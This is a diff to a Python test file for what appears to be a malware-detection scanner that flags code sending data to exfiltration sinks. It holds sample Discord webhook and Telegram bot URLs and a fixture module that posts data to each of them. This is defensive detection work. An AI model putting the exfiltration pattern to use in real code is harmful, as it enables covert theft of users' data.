@@ -67,8 +67,8 @@ def test_worth_parsing(source: bytes, worth: bool) -> None:
     assert triage.worth_parsing(source) is worth
 
 
-#: One address of each sink category (``indicators.SINKS``, ``IP_LOGGER``): triage's
-#: substrings are kept by hand beside the patterns, and must let each through.
+#: One address of each sink category (``indicators.SINKS``, ``IP_LOGGER``): triage gates on
+#: the patterns' own anchors, and must let each through.
 SINK_EXAMPLES = [
     "https://discord.com/api/webhooks/123456789012345678/abcdef",
     "https://api.telegram.org/bot123456789:AAabc/sendMessage",
@@ -93,3 +93,12 @@ def test_a_module_that_sends_to_a_sink_is_parsed(address: str) -> None:
     )
     module = f"import requests\ndef send(data):\n    requests.post({address!r}, data=data)\n"
     assert triage.worth_parsing(module.encode())
+
+
+def test_triage_gates_on_every_anchor_of_the_sink_patterns() -> None:
+    anchors = {
+        a.encode() for i in (*indicators.SINKS.values(), indicators.IP_LOGGER) for a in i.anchors
+    }
+    gated = {token for tokens, _ in triage._TRIAGE for token in tokens}
+    assert anchors <= gated
+    assert all(anchor == anchor.lower() for anchor in anchors)
